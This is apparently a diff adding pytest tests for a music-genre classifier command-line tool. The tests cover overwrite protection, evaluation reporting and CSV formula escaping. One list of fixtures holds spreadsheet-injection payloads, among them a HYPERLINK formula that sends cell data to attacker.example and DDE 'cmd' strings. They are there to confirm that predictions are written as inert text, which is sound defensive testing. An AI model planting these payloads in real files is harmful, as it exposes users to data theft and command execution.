@@ -9,7 +9,15 @@ from pathlib import Path
 
 import pytest
 
-from tests.training.layouts import exportify, genrebot, kaggle_tracks, songs, spotify_features, write
+from tests.training.layouts import (
+    exportify,
+    genrebot,
+    kaggle_tracks,
+    songs,
+    spotify_features,
+    thirty_k,
+    write,
+)
 
 
 @pytest.fixture(scope="module")
@@ -148,3 +156,139 @@ def test_labels_outside_the_taxonomy_are_named_and_refused(tmp_path: Path) -> No
     odd = write(tmp_path / "odd.csv", ["track_name", "artists", "genre"], [["x", "y", "polka"], ["z", "w", "rock"]])
     result = genrebot("train", "--data", str(odd), "--out", str(tmp_path / "m"))
     assert result.returncode == 2 and "polka" in result.stderr and "--taxonomy data" in result.stderr
+
+
+def snapshot(directory: Path) -> dict[str, bytes]:
+    """Every file under `directory` with its bytes: to show that nothing there changed."""
+    return {str(p.relative_to(directory)): p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}
+
+
+@pytest.mark.parametrize("what", ["a folder of documents", "a CSV file", "the working directory"])
+def test_train_refuses_an_output_that_is_not_a_genrebot_model_and_touches_nothing(tmp_path: Path, what: str) -> None:
+    """`train --output X` where X holds a user's files: one line, exit 2, every file as it was."""
+    source = kaggle_tracks(tmp_path)
+    work = tmp_path / "work"
+    work.mkdir()
+    (work / "thesis.docx").write_bytes(b"chapter one")
+    target = {"a folder of documents": "work", "a CSV file": "work/thesis.docx", "the working directory": "."}[what]
+    before = snapshot(tmp_path)
+    result = genrebot("train", "--input", str(source), "--output", target, "--epochs", "1", "--threads", "1", "--force",
+                      cwd=work if what == "the working directory" else tmp_path)
+    assert result.returncode == 2, result.stderr
+    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
+    assert snapshot(tmp_path) == before
+
+
+def test_train_replaces_its_own_model_only_with_force_and_never_a_users_old_folder(tmp_path: Path) -> None:
+    """A second `train` to the same model needs --force; a user's `model.old` beside it survives both."""
+    source = kaggle_tracks(tmp_path)
+    (tmp_path / "model.old").mkdir()
+    (tmp_path / "model.old" / "keep.txt").write_text("mine")
+    first = genrebot("train", "--input", str(source), "--output", "model", "--epochs", "1", "--threads", "1", "--seed", "1", cwd=tmp_path)
+    assert first.returncode == 0, first.stderr
+    first_version = json.loads((tmp_path / "model" / "model.json").read_text())["version"]
+    again = genrebot("train", "--input", str(source), "--output", "model", "--epochs", "1", "--threads", "1", "--seed", "2", cwd=tmp_path)
+    assert again.returncode == 2 and "pass --force" in again.stderr
+    forced = genrebot("train", "--input", str(source), "--output", "model", "--epochs", "1", "--threads", "1", "--seed", "2", "--force",
+                      cwd=tmp_path)
+    assert forced.returncode == 0, forced.stderr
+    assert json.loads((tmp_path / "model" / "model.json").read_text())["version"] != first_version
+    assert (tmp_path / "model.old" / "keep.txt").read_text() == "mine"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["dataset.csv", "model", "model.old"]
+
+
+def test_predict_refuses_to_overwrite_a_file_without_force(trained: tuple[Path, Path, str], tmp_path: Path) -> None:
+    """An existing --output file stays as it was unless --force is given."""
+    _, model, _ = trained
+    existing = tmp_path / "predictions.csv"
+    existing.write_text("my own notes\n")
+    export = exportify(tmp_path, False)
+    refused = genrebot("predict", "--input", str(export), "--output", str(existing), "--model", str(model))
+    assert refused.returncode == 2 and "pass --force" in refused.stderr
+    assert existing.read_text() == "my own notes\n"
+    forced = genrebot("predict", "--input", str(export), "--output", str(existing), "--model", str(model), "--force")
+    assert forced.returncode == 0, forced.stderr
+    assert existing.read_text().startswith("Track URI")
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def exportify_with_formulas(tmp: Path) -> Path:
+    """An Exportify export whose titles and artists are spreadsheet formulas, and loudness negative numbers."""
+    header = ["Track URI", "Track Name", "Artist Name(s)", "Album Name", "Album Release Date",
+              "Track Duration (ms)", "Explicit", "Loudness"]
+    rows = [[f"spotify:track:{s['id']}", FORMULAS[i % len(FORMULAS)] if i < 12 else s["name"],
+             FORMULAS[(i + 1) % len(FORMULAS)] if i < 6 else s["artist"], s["album"], s["date"], s["duration"],
+             "false", f"-{5 + i / 10:.3f}"] for i, s in enumerate(songs(30))]
+    return write(tmp / "formulas.csv", header, rows)
+
+
+def cells_a_spreadsheet_would_run(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("+-").replace(".", "").isdigit()]
+
+
+def test_predict_writes_no_cell_a_spreadsheet_would_run(trained: tuple[Path, Path, str], tmp_path: Path) -> None:
+    """Titles such as =HYPERLINK(...) come out as '=HYPERLINK(...): text, not a formula (OWASP's rule)."""
+    _, model, _ = trained
+    output = tmp_path / "predictions.csv"
+    result = genrebot("predict", "--input", str(exportify_with_formulas(tmp_path)), "--output", str(output),
+                      "--model", str(model))
+    assert result.returncode == 0, result.stderr
+    assert cells_a_spreadsheet_would_run(output) == []
+    names = [row["Track Name"] for row in csv.DictReader(output.open(newline="", encoding="utf-8"))]
+    assert names[:len(FORMULAS)] == ["'" + f for f in FORMULAS]
+
+
+def relabelled(tmp: Path, unknown_share: float) -> Path:
+    """The Kaggle-layout data with the first `unknown_share` of rows moved to genres no model here knows."""
+    source = kaggle_tracks(tmp)
+    with source.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    header, body = rows[0], rows[1:]
+    cut = int(len(body) * unknown_share)
+    for index, row in enumerate(body[:cut]):
+        row[-1] = ("polka", "yodel", "kazoo-core")[index % 3]
+    return write(tmp / f"relabelled-{unknown_share}.csv", header, body)
+
+
+def test_evaluate_states_its_scoring_rule_beside_the_per_row_figure(trained: tuple[Path, Path, str], tmp_path: Path) -> None:
+    """The text says how a track counts as right, and prints the per-row macro-F1 beside it."""
+    _, model, _ = trained
+    result = genrebot("evaluate", "--input", str(thirty_k(tmp_path)), "--model", str(model))
+    assert result.returncode == 0, result.stderr
+    assert "a prediction counts as right when it is any of the track's labels" in result.stdout
+    assert "per row: macro-F1" in result.stdout and "against its own label only" in result.stdout
+    as_json = json.loads(genrebot("evaluate", "--input", str(thirty_k(tmp_path)), "--model", str(model), "--json").stdout)
+    assert as_json["per_row"]["rows"] == as_json["n"] + 1  # the one track labelled both rock and rap is two rows
+    assert 0 <= as_json["per_row"]["genre"]["macro_f1"] <= 1 and as_json["scoring_rule"]
+
+
+def test_evaluate_counts_tracks_whose_labels_the_model_does_not_know(
+        trained: tuple[Path, Path, str], tmp_path: Path) -> None:
+    """A minority of unknown labels is left out and counted in the output."""
+    _, model, _ = trained
+    result = genrebot("evaluate", "--input", str(relabelled(tmp_path, 0.25)), "--model", str(model))
+    assert result.returncode == 0, result.stderr
+    assert "60 of 240 had only labels this model does not know" in result.stdout
+
+
+def test_evaluate_refuses_when_most_labels_are_unknown_to_the_model(
+        trained: tuple[Path, Path, str], tmp_path: Path) -> None:
+    """When most tracks' labels are unknown, no misleading score: one line, exit 2."""
+    _, model, _ = trained
+    result = genrebot("evaluate", "--input", str(relabelled(tmp_path, 0.75)), "--model", str(model))
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    last = result.stderr.strip().splitlines()[-1]
+    assert "180 of 240 tracks have only labels this model does not know (kazoo-core, polka, yodel)" in last
+    assert "macro-F1" not in result.stdout
+
+
+def test_training_says_which_epoch_it_kept_and_why(trained: tuple[Path, Path, str]) -> None:
+    """The last lines name the kept epoch and the validation score that chose it; model.json agrees."""
+    _, out, stderr = trained
+    meta = json.loads((out / "model.json").read_text())
+    assert f"kept epoch {meta['kept_epoch']} (best mean validation macro-F1" in stderr
